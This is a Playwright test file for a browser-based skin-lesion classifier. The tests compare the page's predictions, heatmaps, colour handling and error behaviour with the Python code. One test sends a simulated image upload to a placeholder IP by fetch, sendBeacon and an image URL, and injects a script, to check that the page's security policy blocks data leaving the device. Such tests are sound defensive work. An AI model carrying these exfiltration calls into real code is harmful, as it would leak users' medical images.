"""The page of `skinedge web` in a real browser, against Python with the same file."""

from __future__ import annotations

import base64
import contextlib
import json
import struct
import threading
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import REPOSITORY
from PIL import Image
from playwright.sync_api import Page

from experiments import colour_vectors
from skinedge.cli.common import NOTICE
from skinedge.core.colour import AS_STORED, SRGB, read_profile
from skinedge.core.errors import SkinedgeError
from skinedge.core.image_file import load_image
from skinedge.core.preprocess import Pixels, prepare
from skinedge.run import golden
from skinedge.run.run_directory import Bundle
from skinedge_bench.explain import overlay
from skinedge_bench.latency.row import Row
from skinedge_bench.loaded_model import LoadedModel, open_listed
from skinedge_bench.web.server import SiteServer
from skinedge_bench.web.site import Site, build

FLAGSHIP = REPOSITORY / "skinedge" / "flagship"
TFLITE = "model.int8.heatmap.tflite"
ONNX = "model.int8.onnx"
SAME = 1e-4  # of a probability
PATIENCE = 120_000  # ms: a loaded machine starts a browser slowly

# Judges prepared images of the site's own file, one after the other, with the page's own modules.
JUDGE = """async ([count, size]) => {
  const {load, json, get} = await import('/model.js');
  const model = await load(await json('site.json'));
  const bytes = new Uint8Array(await (await get('prepared.bin')).arrayBuffer());
  const found = [];
  for (let index = 0; index < count; index++) {
    const {probabilities, heatmap} = await model.run(bytes.subarray(index * size, (index + 1) * size));
    found.push([[...probabilities], heatmap ? [...heatmap.values] : null]);
  }
  return found;
}"""
SEEN = """canvas => {
  const {data} = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
  return btoa(Array.from(data, byte => String.fromCharCode(byte)).join(''));
}"""

# Shows a result whose map has evidence all along one ring of cells, by its distance to the border.
FRAMED = """async ([ring]) => {
  const {load, json} = await import('/model.js');
  const {showResult} = await import('/view.js');
  const settings = await json('site.json'), model = await load(settings);
  const size = model.card.resize.size, classes = model.labels.length, side = 7;
  const depth = (cell) => Math.min(...[Math.floor(cell / side), cell % side].flatMap((at) => [at, side - 1 - at]));
  const level = (_, at) => Number(depth(Math.floor(at / classes)) === ring);
  const values = Float32Array.from({length: side * side * classes}, level);
  const heatmap = {values, height: side, width: side, classes};
  const probabilities = new Float32Array(classes).fill(1 / classes);
  const pixels = new Uint8Array(size * size * 3);
  showResult({name: 'framed', remark: '', pixels, probabilities, heatmap}, model, settings);
}"""


@contextlib.contextmanager
def served(site: Site, changes: Mapping[str, bytes | None] | None = None) -> Iterator[str]:
    """Address of the site. changes: path -> another content, None for a file that is not to be there."""
    changed = {**site.files, **(changes or {})}
    files = {name: content for name, content in changed.items() if content is not None}
    with SiteServer(replace(site, files=files), port=0) as server:
        thread = threading.Thread(target=server.serve_forever, args=[0.02])
        thread.start()
        try:
            yield server.url
        finally:
            server.shutdown()
            thread.join()


def built(name: str) -> Site:
    try:
        return build(Bundle.open(FLAGSHIP), name)
    except SkinedgeError as error:
        if "make web" in str(error):
            pytest.skip(str(error))
        raise


@pytest.fixture(scope="session")
def site() -> Site:
    return built(TFLITE)


@pytest.fixture(scope="session")
def model() -> LoadedModel:
    return open_listed(Bundle.open(FLAGSHIP), TFLITE)


@pytest.fixture(scope="session")
def url(site: Site) -> Iterator[str]:
    with served(site) as address:
        yield address


@pytest.fixture
def ready(page: Page, url: str) -> Page:
    """The page with its model loaded and checked."""
    return opened(page, url)


def opened(page: Page, address: str) -> Page:
    page.set_default_timeout(PATIENCE)
    page.goto(address)
    page.wait_for_selector("#file:enabled, #problem:not([hidden])", state="attached")
    return page


def judged(page: Page, path: Path) -> tuple[Pixels, dict[str, float]]:
    """What the model saw of an image file, and its probabilities, by label."""
    page.set_input_files("#file", path)
    page.locator("#source").get_by_text(path.name, exact=True).wait_for()
    return seen(page), probabilities(page)


def seen(page: Page, canvas: str = "#seen") -> Pixels:
    flat = np.frombuffer(base64.b64decode(page.locator(canvas).evaluate(SEEN)), dtype=np.uint8)
    side = int(np.sqrt(flat.size // 4))
    return np.ascontiguousarray(flat.reshape(side, side, 4)[..., :3])


def probabilities(page: Page) -> dict[str, float]:
    rows = page.locator("#classes .class").evaluate_all("rows => rows.map(row => ({...row.dataset}))")
    return {row["label"]: float(row["probability"]) for row in rows}


def expected(model: LoadedModel, pixels: Pixels) -> dict[str, float]:
    return dict(zip(model.labels, model.run(pixels[None]).probabilities[0].tolist(), strict=True))


def png(pixels: Any, path: Path, **options: Any) -> Path:
    Image.fromarray(pixels).save(path, **options)
    return path


def problem(page: Page) -> str:
    page.wait_for_selector("#problem:not([hidden])")
    return page.inner_text("#problem")


# --- the same answers -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "tolerance"), [(TFLITE, SAME), (ONNX, 0.02)])
def test_golden_images_are_judged_as_in_python(page: Page, name: str, tolerance: float) -> None:
    """ONNX Runtime's int8 kernels round otherwise in WebAssembly than on this CPU; LiteRT's do not."""
    model = open_listed(Bundle.open(FLAGSHIP), name)
    pixels = golden.load(FLAGSHIP / "golden.npz").pixels[::2]
    wanted = model.run(pixels)
    with served(built(name), {"prepared.bin": pixels.tobytes()}) as address:
        found = opened(page, address).evaluate(JUDGE, [len(pixels), pixels[0].size])
    np.testing.assert_allclose([row[0] for row in found], wanted.probabilities, rtol=0, atol=tolerance)
    if wanted.heatmaps is None:
        assert all(row[1] is None for row in found) and not page.locator("#evidence-figure").is_visible()
    else:
        maps = np.array([row[1] for row in found]).reshape(wanted.heatmaps.shape)
        np.testing.assert_allclose(maps, wanted.heatmaps, rtol=0, atol=1e-4)


def test_a_browser_without_relaxed_simd_gives_the_same(page: Page, site: Site, model: LoadedModel) -> None:
    """As Safari long was: the probe for it fails, so that LiteRT.js loads its other build."""
    page.add_init_script(
        "const real = WebAssembly.instantiate; WebAssembly.instantiate = (code, ...rest) =>"
        " code.byteLength < 200 ? Promise.reject(new Error('no')) : real(code, ...rest)"
    )
    pixels = golden.load(FLAGSHIP / "golden.npz").pixels[:8]
    with served(site, {"prepared.bin": pixels.tobytes()}) as address:
        found = opened(page, address).evaluate(JUDGE, [len(pixels), pixels[0].size])
    assert "WebAssembly, SIMD" in page.inner_text("#facts")
    np.testing.assert_allclose([row[0] for row in found], model.run(pixels).probabilities, rtol=0, atol=SAME)


def test_golden_sources_are_prepared_exactly(ready: Page, model: LoadedModel, tmp_path: Path) -> None:
    vectors = golden.load(FLAGSHIP / "golden.npz")
    for index, source in vectors.sources.items():
        pixels, _ = judged(ready, png(source, tmp_path / f"golden-{index}.png"))
        np.testing.assert_array_equal(pixels, vectors.pixels[index])


def test_real_images(ready: Page, model: LoadedModel, real_images: Path, tmp_path: Path) -> None:
    """As PNG, exactly; as JPEG, as far as two decoders agree. Judged as Python judges what the page saw."""
    for folder in sorted(path for path in real_images.iterdir() if path.is_dir()):
        path = sorted(folder.glob("*.jpg"))[0]
        decoded = load_image(path)
        wanted = prepare(decoded, model.size)
        pixels, found = judged(ready, path)
        assert np.abs(pixels.astype(int) - wanted).max() <= 2
        assert found == pytest.approx(expected(model, pixels), abs=SAME)
        pixels, found = judged(ready, png(decoded, tmp_path / f"{path.stem}.png"))
        np.testing.assert_array_equal(pixels, wanted)
        assert found == pytest.approx(expected(model, wanted), abs=SAME)


def test_the_result_says_score_threshold_and_melanoma(ready: Page, model: LoadedModel, tmp_path: Path) -> None:
    """Over golden sources, some flagged and some not."""
    verdicts = set()
    for index, source in list(golden.load(FLAGSHIP / "golden.npz").sources.items())[:8]:
        _, found = judged(ready, png(source, tmp_path / f"{index}.png"))
        score = sum(found[model.labels[place]] for place in model.malignant or ())
        assert model.threshold is not None and model.melanoma is not None
        flagged = score >= model.threshold
        words = "flagged, at or above" if flagged else "not flagged, below"
        assert ready.inner_text("#verdict") == f"{score:.3f} {words} the threshold {model.threshold:.3f}"
        assert f"Melanoma alone: {found[model.labels[model.melanoma]]:.3f}." in ready.inner_text("#score-parts")
        order = [model.labels.index(label) for label in found]
        assert list(found.values()) == sorted(found.values(), reverse=True) and len(set(order)) == len(model.labels)
        verdicts.add(flagged)
    assert verdicts == {True, False}


def test_the_map_is_the_picture_that_explain_draws(ready: Page, model: LoadedModel, tmp_path: Path) -> None:
    source = golden.load(FLAGSHIP / "golden.npz").sources[2]
    pixels, found = judged(ready, png(source, tmp_path / "image.png"))
    maps = model.run(pixels[None]).heatmaps
    assert maps is not None
    for label in (next(iter(found)), "nv", "mel"):
        ready.click(f"#classes button[data-label={label}]")
        wanted = overlay.overlay(Image.fromarray(pixels), maps[0, :, :, model.labels.index(label)])
        assert np.abs(seen(ready, "#evidence").astype(int) - np.asarray(wanted)).max() <= 1
        assert f"evidence for {label} is" in ready.inner_text("#evidence-caption")
        pressed = ready.locator("#classes button[aria-pressed=true]")
        assert pressed.count() == 1 and pressed.get_attribute("data-label") == label


def test_a_frame_along_the_border_is_named(ready: Page) -> None:
    for ring, name in ((0, "outermost ring of cells"), (1, "second ring of cells from the border")):
        ready.evaluate(FRAMED, [ring])
        assert f"Frame: most of the evidence lies in the {name}" in ready.inner_text("#frame")
    ready.evaluate(FRAMED, [2])
    assert not ready.locator("#frame").is_visible()


# --- images of all kinds ----------------------------------------------------------------------------------------


def test_photos_are_turned_upright(ready: Page, model: LoadedModel, tmp_path: Path) -> None:
    source = Image.fromarray(golden.load(FLAGSHIP / "golden.npz").sources[0])
    for orientation in range(1, 9):
        exif = Image.Exif()
        exif[0x0112] = orientation
        path = tmp_path / f"{orientation}.jpg"
        source.save(path, quality=95, exif=exif)
        pixels, _ = judged(ready, path)
        assert np.abs(pixels.astype(int) - prepare(load_image(path), model.size)).max() <= 2, orientation


def kinds() -> dict[str, tuple[Callable[[Image.Image], Image.Image], str, int]]:
    """What is made of a colour image, its suffix, and how far the pixels may be from Python's."""

    def transparent(image: Image.Image) -> Image.Image:
        ramp = Image.linear_gradient("L").resize(image.size)
        return Image.merge("RGBA", (*image.split(), ramp))

    return {
        "grey": (lambda image: image.convert("L"), "png", 0),
        "palette": (lambda image: image.quantize(16), "png", 0),
        "transparent": (transparent, "png", 1),
        "small, enlarged": (lambda image: image.resize((50, 37)), "png", 0),
        "of the model's size": (lambda image: image.resize((224, 224)), "png", 0),
        "one side as it is": (lambda image: image.resize((224, 301)), "png", 0),
        "20 times as long as wide": (lambda image: image.resize((600, 30)), "png", 0),
        "tall": (lambda image: image.resize((300, 700)), "png", 0),
        "12 megapixels": (lambda image: image.resize((4000, 3000)), "png", 0),
        "lossless WebP": (lambda image: image, "webp", 0),
        "with a colour profile": (lambda image: image, "icc.png", 0),
    }


def test_images_of_all_kinds(ready: Page, model: LoadedModel, tmp_path: Path) -> None:
    source = Image.fromarray(golden.load(FLAGSHIP / "golden.npz").sources[0])
    for kind, (make, suffix, most) in kinds().items():
        path = tmp_path / f"{kind}.{suffix}"
        options: dict[str, Any] = {"lossless": True} if suffix == "webp" else {}
        if suffix == "icc.png":
            options["icc_profile"] = swapped_profile()
        make(source).save(path, **options)
        pixels, _ = judged(ready, path)
        expected = prepare(load_image(path, model.colour), model.size)
        assert np.abs(pixels.astype(int) - expected).max() <= most, kind


def swapped_profile() -> bytes:
    """A colour profile that, if it were obeyed, would show: sRGB's with red and blue exchanged."""
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return profile.replace(b"rXYZ", b"tXYZ").replace(b"bXYZ", b"rXYZ").replace(b"tXYZ", b"bXYZ")


# --- colour profiles --------------------------------------------------------------------------------------------

# Reads profiles and converts colours with the page's own module.
CONVERT = """async (vectors) => {
  const {readProfile, toSrgb} = await import('/colour.js');
  const bytes = (text) => Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));
  const hex = (digest) => Array.from(new Uint8Array(digest), (byte) => byte.toString(16).padStart(2, '0')).join('');
  return Promise.all(vectors.map(async ({profile, colours}) => {
    const {name, problem, table} = readProfile(bytes(profile));
    const [rgb, ordered] = [bytes(colours), new Int32Array(3 * 3 * 256)];
    const rgba = Uint8ClampedArray.from({length: rgb.length / 3 * 4}, (_, at) => rgb[(at >> 2) * 3 + at % 4] ?? 0);
    if (table) toSrgb(rgba, table);
    const place = (at) => ((at % 3) * 3 + Math.floor(at / 768)) * 256 + Math.floor(at / 3) % 256;
    table?.forEach((value, at) => (ordered[place(at)] = value));
    const converted = rgb.map((_, at) => rgba[Math.floor(at / 3) * 4 + at % 3]);
    const digest = table && hex(await crypto.subtle.digest('SHA-256', ordered));
    return [name, problem, digest, btoa(String.fromCharCode(...converted))];
  }));
}"""


def test_profiles_are_read_and_colours_converted_as_in_python(ready: Page) -> None:
    """The vectors that the app replays too, and mutated profiles."""
    vectors = colour_vectors.vectors()
    assert vectors == json.loads(colour_vectors.VECTORS.read_text())
    rng = np.random.default_rng(0)
    for data in list(colour_vectors.profiles().values()) * 20:
        mutated = bytearray(data)
        for place in rng.integers(len(data), size=3):
            mutated[place] = rng.integers(256)
        read = read_profile(bytes(mutated))
        digest = None if read.table is None else colour_vectors.digest(read.table)
        vectors.append({"profile": base64.b64encode(mutated).decode(), "problem": read.problem, "table_sha256": digest})
    asked = [{"profile": row["profile"], "colours": row.get("colours", "")} for row in vectors]
    for row, (name, problem, digest, converted) in zip(vectors, ready.evaluate(CONVERT, asked), strict=True):
        assert (problem, digest) == (row["problem"], row["table_sha256"]), row
        assert "kind" not in row or (name, converted) == (row["name"], row["converted"]), row
    assert sum(row["table_sha256"] is not None for row in vectors) > 50


@pytest.fixture(scope="module")
def converting(site: Site) -> Iterator[str]:
    """Address of a site whose card states the rule for colour profiles."""
    card = json.loads(site.files[f"model/{TFLITE}.skinedge.json"])
    with served(
        site, {f"model/{TFLITE}.skinedge.json": card_with(site, resize={**card["resize"], "colour": SRGB})}
    ) as url:
        yield url


FACTS = {
    ("Display P3", AS_STORED): " The colour profile 'Display P3' is ignored, as in training.",
    ("Display P3", SRGB): " Colours converted to sRGB from the profile 'Display P3'.",
    ("sRGB", AS_STORED): "",
    ("sRGB", SRGB): "",
    ("lookup tables", AS_STORED): " The colour profile 'Display P3' is ignored, as in training.",
    ("lookup tables", SRGB): (
        " Colours as stored: the profile 'Display P3' is made of lookup tables and not converted."
    ),
}


@pytest.mark.parametrize("kind", ["Display P3", "lookup tables", "sRGB"])
def test_photos_with_profiles_give_pythons_pixels(
    page: Page, url: str, converting: str, model: LoadedModel, tmp_path: Path, kind: str
) -> None:
    """By the card's rule; without one, as stored. JPEG decoders may round otherwise, and profiles enlarge it."""
    source = Image.fromarray(golden.load(FLAGSHIP / "golden.npz").sources[0])
    profile = colour_vectors.profiles()[kind]
    clear = source.convert("RGBA")
    clear.putalpha(Image.linear_gradient("L").resize(source.size))
    pictures = {"a.png": (source, 0), "a.webp": (source, 0), "a.jpg": (source, 3), "clear.png": (clear, 2)}
    for address, rule in ((url, AS_STORED), (converting, SRGB)):
        opened(page, address)
        for name, (picture, most) in pictures.items():
            path = tmp_path / f"{rule}-{name}"
            options = {"lossless": True} if name.endswith("webp") else {"quality": 95} if name.endswith("jpg") else {}
            picture.save(path, icc_profile=profile, **options)
            pixels, _ = judged(page, path)
            assert np.abs(pixels.astype(int) - prepare(load_image(path, rule), model.size)).max() <= most, path.name
            caption = page.inner_text("#seen-caption")
            assert caption == f"What the model saw, {model.size} x {model.size} pixels.{FACTS[kind, rule]}"


def test_large_profiles_in_several_segments_and_other_chunks(page: Page, converting: str, tmp_path: Path) -> None:
    """A profile of 100 kB is spread over two segments of a JPEG; a PNG also states gamma and primaries."""
    source = Image.fromarray(golden.load(FLAGSHIP / "golden.npz").sources[0])
    more = [(b"priv", np.random.default_rng(0).bytes(100_000))]
    profile = colour_vectors.profile(
        colour_vectors.named("large"), colour_vectors.ADOBE_RGB, [colour_vectors.sampled(563)] * 3, more=more
    )
    opened(page, converting)
    for name, most in (("large.jpg", 3), ("large.webp", 0), ("large.png", 0)):
        source.save(tmp_path / name, icc_profile=profile, quality=95, lossless=True)
        pixels, _ = judged(page, tmp_path / name)
        assert np.abs(pixels.astype(int) - prepare(load_image(tmp_path / name), 224)).max() <= most, name
        assert "from the profile 'large'" in page.inner_text("#seen-caption")
    gamma = struct.pack(">I4sI", 4, b"gAMA", 100_000)
    gamma += struct.pack(">I", zlib.crc32(gamma[4:]))
    source.save(tmp_path / "plain.png")
    content = (tmp_path / "plain.png").read_bytes()
    (tmp_path / "gamma.png").write_bytes(content[:33] + gamma + content[33:])
    pixels, _ = judged(page, tmp_path / "gamma.png")
    np.testing.assert_array_equal(pixels, prepare(np.asarray(source), 224))


def test_what_a_browser_reads_otherwise_is_refused(page: Page, converting: str, tmp_path: Path) -> None:
    source = golden.load(FLAGSHIP / "golden.npz").sources[0]
    opened(page, converting)
    Image.fromarray(source[..., 0].astype(np.uint16) * 16).save(tmp_path / "deep.png")
    Image.fromarray(source).save(tmp_path / "other.avif")
    for name, words in (
        ("deep.png", "16-bit PNG files differently"),
        ("other.avif", "colour profile of this kind of file"),
    ):
        page.set_input_files("#file", tmp_path / name)
        page.locator("#problem").get_by_text(words).wait_for()
        assert not page.is_visible("#result")


# --- what goes wrong --------------------------------------------------------------------------------------------


def test_what_is_no_image_or_a_strip_is_refused_and_the_next_is_judged(ready: Page, tmp_path: Path) -> None:
    (tmp_path / "notes.jpg").write_bytes(b"no image")
    (tmp_path / "empty.png").write_bytes(b"")
    png(np.zeros((10, 201, 3), np.uint8), tmp_path / "strip.png")
    for name, words in {
        "notes.jpg": "notes.jpg is not an image that this browser can read",
        "empty.png": "empty.png is not an image that this browser can read",
        "strip.png": "The image, 201 x 10 pixels, is more than 20 times as long as wide.",
    }.items():
        ready.set_input_files("#file", tmp_path / name)
        ready.locator("#problem").get_by_text(words).wait_for()
        assert not ready.is_visible("#result")
    judged(ready, png(golden.load(FLAGSHIP / "golden.npz").sources[2], tmp_path / "good.png"))
    assert not ready.is_visible("#problem")


def card_with(site: Site, **changes: Any) -> bytes:
    card = json.loads(site.files[f"model/{TFLITE}.skinedge.json"])
    return json.dumps({**card, **changes}).encode()


def damaged(site: Site, what: str) -> dict[str, bytes | None]:
    """What of the site is changed, as `served` takes it."""
    file, card = f"model/{TFLITE}", f"model/{TFLITE}.skinedge.json"
    read = json.loads(card_with(site))
    model = bytearray(site.files[f"model/{TFLITE}"])
    model[len(model) // 2] ^= 1
    check = bytearray(site.files["check.bin"])
    first = json.loads(site.files["site.json"])["check"]["images"][0]
    check[first["width"] * first["height"] // 2 * 3] ^= 255  # in its middle
    changes: dict[str, dict[str, bytes | None]] = {
        "tampered model": {file: bytes(model)},
        "no model": {file: None},
        "no card": {card: None},
        "no settings": {"site.json": None},
        "card that is no JSON": {card: b"{"},
        "card without classes": {card: json.dumps({k: v for k, v in read.items() if k != "classes"}).encode()},
        "card of another kind": {card: card_with(site, schema="skinedge.file/9")},
        "classes out of order": {card: card_with(site, classes=read["classes"][::-1])},
        "a class too few": {card: card_with(site, classes=read["classes"][:6])},
        "another resizing": {card: card_with(site, resize={**read["resize"], "resize": "bicubic"})},
        "another colour rule": {card: card_with(site, resize={**read["resize"], "colour": "linear"})},
        "another size": {
            card: card_with(
                site,
                resize={**read["resize"], "size": 192},
                input={**read["input"], "shape": [1, 192, 192, 3]},
            )
        },
        "no threshold": {card: card_with(site, malignant_score={**read["malignant_score"], "flag_from": "low"})},
        "other source pixels": {"check.bin": bytes(check)},
        "another black": {card: card_with(site, input={**read["input"], "black": -1000.0})},
        "no runtime": {"vendor/litert/core.js": None},
    }
    return changes[what]


@pytest.mark.parametrize(
    ("what", "words"),
    [
        ("tampered model", "The model file is not the one that its card describes"),
        ("no model", f"model/{TFLITE} is missing from this site (404)"),
        ("no card", f"model/{TFLITE}.skinedge.json is missing from this site (404)"),
        ("no settings", "site.json is missing from this site (404)"),
        ("card that is no JSON", f"model/{TFLITE}.skinedge.json is damaged"),
        ("card without classes", "The model's card cannot be used"),
        ("card of another kind", "its schema is 'skinedge.file/9'"),
        ("classes out of order", "its classes are not in order"),
        ("a class too few", "its malignant score counts a class|no probability for each class"),
        ("another resizing", "this page does not know the resizing 'bicubic'"),
        ("another colour rule", "this page does not know the colour rule 'linear'"),
        ("another size", "The model file and its card disagree about 'pixels'"),
        ("no threshold", "its threshold is low"),
        ("other source pixels", "The self-check failed: an image comes out of the resizing with other pixels"),
        ("another black", "The self-check failed: a probability differs from Python's"),
        ("no runtime", "This browser cannot run the model (litert.js"),
    ],
)
def test_what_is_wrong_is_said_and_nothing_predicted(
    page: Page, complaints: list[str], site: Site, what: str, words: str
) -> None:
    with served(site, damaged(site, what)) as address:
        opened(page, address)
        assert any(part in problem(page) for part in words.split("|")), problem(page)
        assert page.inner_text("#status") == "The model is not ready."
        assert page.locator("#file:disabled, #camera:disabled, #time:disabled").count() == 3
        assert page.inner_text(".notice") == NOTICE
    complaints[:] = [said for said in complaints if "404" not in said]


def test_a_browser_without_webassembly(page: Page, url: str) -> None:
    page.add_init_script("delete globalThis.WebAssembly")
    opened(page, url)
    assert "no WebAssembly" in problem(page)


def test_a_page_that_is_not_served_securely(page: Page, url: str) -> None:
    """As over plain http from another machine, where browsers withhold SHA-256."""
    page.add_init_script(
        "Object.defineProperty(globalThis, 'isSecureContext', {value: false}); delete Crypto.prototype.subtle"
    )
    opened(page, url)
    assert "only over https or from localhost" in problem(page)


# --- the last image's result ------------------------------------------------------------------------------------


def dropped(page: Page, path: Path) -> None:
    """Drop a file onto the page, as a file manager does."""
    code = """([content, name]) => {
      const bytes = Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0));
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([bytes], name));
      document.dispatchEvent(new DragEvent('drop', {dataTransfer, bubbles: true, cancelable: true}));
    }"""
    page.evaluate(code, [base64.b64encode(path.read_bytes()).decode(), path.name])


def picked(page: Page, path: Path) -> None:
    page.set_input_files("#file", path)


def remains(page: Page) -> list[str]:
    """What the page still has of a result: visible parts, texts, painted pictures."""
    code = """() => [
      ...(document.getElementById('result').hidden ? [] : ['result']),
      ...['source', 'verdict', 'classes'].filter((id) => document.getElementById(id).textContent !== ''),
      ...['seen', 'evidence'].filter((id) => document.getElementById(id).width > 0),
    ]"""
    return page.evaluate(code)


@pytest.mark.parametrize("offer", [picked, dropped])
def test_an_error_leaves_nothing_of_the_image_before(ready: Page, tmp_path: Path, offer: Callable[..., None]) -> None:
    """Of a PDF, a cut-off image, a strip: by every way in which a file comes."""
    good = png(golden.load(FLAGSHIP / "golden.npz").sources[2], tmp_path / "good.png")
    (tmp_path / "letter.pdf").write_bytes(b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF\n")
    (tmp_path / "cut.png").write_bytes(good.read_bytes()[:60])
    png(np.zeros((10, 201, 3), np.uint8), tmp_path / "strip.png")
    for name in ("letter.pdf", "cut.png", "strip.png"):
        offer(ready, good)
        ready.locator("#source").get_by_text("good.png", exact=True).wait_for()
        assert remains(ready) == ["result", "source", "verdict", "classes", "seen", "evidence"]
        offer(ready, tmp_path / name)
        problem(ready)
        assert remains(ready) == [], name


def test_a_camera_that_is_refused_leaves_nothing_of_the_image_before(ready: Page, tmp_path: Path) -> None:
    judged(ready, png(golden.load(FLAGSHIP / "golden.npz").sources[2], tmp_path / "good.png"))
    ready.click("#camera")
    assert "The camera was refused to this page" in problem(ready) and remains(ready) == []


def test_a_camera_frame_that_fails_leaves_nothing_of_the_image_before(ready: Page, tmp_path: Path) -> None:
    ready.context.grant_permissions(["camera"])
    ready.click("#camera")
    ready.wait_for_selector("#finder:not([hidden])")
    judged(ready, png(golden.load(FLAGSHIP / "golden.npz").sources[2], tmp_path / "good.png"))
    ready.evaluate("() => { globalThis.createImageBitmap = () => Promise.reject(new Error('no frame')); }")
    ready.click("#shoot")
    assert "no frame" in problem(ready) and remains(ready) == []


def test_a_model_that_fails_leaves_nothing_of_the_image_before(ready: Page, tmp_path: Path) -> None:
    good = png(golden.load(FLAGSHIP / "golden.npz").sources[2], tmp_path / "good.png")
    judged(ready, good)
    ready.evaluate("() => { Float32Array.from = () => { throw new Error('out of memory'); }; }")
    picked(ready, good)
    assert "out of memory" in problem(ready) and remains(ready) == []


def test_an_image_of_too_many_pixels_is_refused_before_it_is_decoded(ready: Page, tmp_path: Path) -> None:
    path = tmp_path / "large.png"
    Image.new("1", (8192, 6145)).save(path)
    ready.evaluate("() => { globalThis.createImageBitmap = () => { throw new Error('decoded'); }; }")
    ready.set_input_files("#file", path)
    assert "The image of 50.3 megapixels is larger than the limit of 50.3." in problem(ready)


@pytest.mark.parametrize("slow_fails", [False, True])
def test_a_slower_image_never_replaces_the_one_after_it(
    ready: Page, model: LoadedModel, tmp_path: Path, slow_fails: bool
) -> None:
    """The first image's decoding ends, or fails, after the second was judged."""
    ready.evaluate(
        """(fails) => {
      const decode = globalThis.createImageBitmap;
      globalThis.createImageBitmap = async (blob, ...rest) => {
        if (blob.name === 'slow.png') await new Promise((resume) => { globalThis.goOn = resume; });
        if (blob.name === 'slow.png' && fails) throw new Error('no');
        return decode(blob, ...rest);
      };
    }""",
        slow_fails,
    )
    sources = golden.load(FLAGSHIP / "golden.npz").sources
    slow, fast = png(sources[2], tmp_path / "slow.png"), png(sources[0], tmp_path / "fast.png")
    dropped(ready, slow)
    ready.wait_for_function("() => globalThis.goOn")
    dropped(ready, fast)
    ready.locator("#source").get_by_text("fast.png", exact=True).wait_for()
    before = probabilities(ready)
    ready.evaluate("async () => { globalThis.goOn(); await new Promise((resume) => setTimeout(resume, 500)); }")
    assert ready.inner_text("#source") == "fast.png" and not ready.is_visible("#problem")
    assert probabilities(ready) == before == pytest.approx(expected(model, seen(ready)), abs=SAME)
    assert ready.is_enabled("#file") and ready.is_enabled("#time")


# --- the camera, the benchmark, the network ---------------------------------------------------------------------


def test_a_camera_frame_is_judged(ready: Page, model: LoadedModel) -> None:
    ready.context.grant_permissions(["camera"])
    ready.click("#camera")
    ready.wait_for_selector("#finder:not([hidden])")
    ready.click("#shoot")
    ready.wait_for_selector("#result:not([hidden])")
    assert ready.inner_text("#source").startswith("Camera frame, ")
    assert probabilities(ready) == pytest.approx(expected(model, seen(ready)), abs=SAME)
    ready.click("#stop")
    assert not ready.is_visible("#finder")
    assert ready.locator("#video").evaluate("video => video.srcObject") is None


def test_a_camera_that_is_refused(ready: Page) -> None:
    ready.click("#camera")
    assert "The camera was refused to this page" in problem(ready)
    assert not ready.is_visible("#finder")


def test_the_benchmark_gives_the_row_of_bench(ready: Page, model: LoadedModel, tmp_path: Path) -> None:
    ready.click("#time")
    ready.wait_for_selector("#speed:not([hidden])")
    with ready.expect_download() as download:
        ready.click("#download")
    download.value.save_as(tmp_path / "bench.json")
    report = json.loads((tmp_path / "bench.json").read_text())
    (row,) = report["rows"]
    assert set(row) == {field.name for field in fields(Row)}
    assert (report["schema"], report["model_id"], report["model_sha256"]) == (
        "skinedge.bench/1",
        model.model_id,
        model.sha256,
    )
    (blocks,) = report["samples_ms"].values()
    assert [len(block) for block in blocks] == [20] * 6
    samples = np.array(blocks).ravel()
    assert (samples > 0).all() and row["n"] == 120 and row["p99_ms"] is None
    np.testing.assert_allclose([row["p50_ms"], row["p90_ms"]], np.quantile(samples, [0.5, 0.9]))
    low, high = row["p50_interval_ms"]
    assert low <= np.median(np.median(blocks, axis=1)) <= high
    assert row["load_ms"] > 0 and row["first_inference_ms"] > 0 and row["threads"] == 1 and row["golden"] is None
    assert (row["file"], row["sha256"], row["runtime"]) == (TFLITE, model.sha256, "litert.js")
    assert "Chrome" in report["device"]["system"] and report["device"]["backend"].startswith("WebAssembly")
    assert row["trustworthy"] == (not row["reasons"])
    assert f"{row['p50_ms']:.1f} ms" in ready.inner_text("#speed")


def test_noise_is_told_as_in_python(ready: Page) -> None:
    from skinedge_bench.latency.block_stats import noise_reasons

    rng = np.random.default_rng(0)
    steady = 5 + rng.random((9, 20)) / 10
    cases = [steady, steady * np.linspace(1, 2, 9)[:, None], steady * np.array([1, 1.4, 1] * 3)[:, None]]
    code = """async (cases) => {
      const {noise} = await import('/benchmark.js');
      const {bench} = await (await fetch('site.json')).json();
      return cases.map((blocks) => noise(blocks, bench.limits));
    }"""
    found = ready.evaluate(code, [case.tolist() for case in cases])
    assert found == [list(noise_reasons(case.tolist())) for case in cases]
    assert found[0] == [] and len(found[1]) == 2 and len(found[2]) == 1


def test_nothing_can_be_sent_elsewhere(ready: Page, complaints: list[str]) -> None:
    failures: list[str | None] = []
    ready.on("requestfailed", lambda request: failures.append(request.failure))
    code = """async () => {
      const blocked = [];
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      await fetch('http://192.0.2.1/', {method: 'POST', body: 'image'}).catch(() => {});
      navigator.sendBeacon('http://192.0.2.1/', 'image');
      new Image().src = 'http://192.0.2.1/?image';
      document.body.append(Object.assign(document.createElement('script'), {textContent: 'globalThis.odd = 1'}));
      await new Promise((resume) => setTimeout(resume, 500));
      return [blocked, globalThis.odd ?? null];
    }"""
    blocked, odd = ready.evaluate(code)
    assert {"connect-src", "img-src", "script-src-elem"} <= set(blocked) and odd is None
    assert set(failures) == {"csp"} and len(failures) == len([c for c in complaints if c.startswith("request")])
    complaints.clear()  # the browser tells of what it stopped


def test_it_works_without_its_server_once_loaded(page: Page, site: Site, model: LoadedModel, tmp_path: Path) -> None:
    with served(site) as address:
        opened(page, address)
    page.context.set_offline(True)
    pixels, found = judged(page, png(golden.load(FLAGSHIP / "golden.npz").sources[2], tmp_path / "image.png"))
    assert found == pytest.approx(expected(model, pixels), abs=SAME)


# --- how it looks -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_notice_stays_in_sight_and_a_phone_needs_no_scrolling_sideways(
    ready: Page, tmp_path: Path, scheme: Any
) -> None:
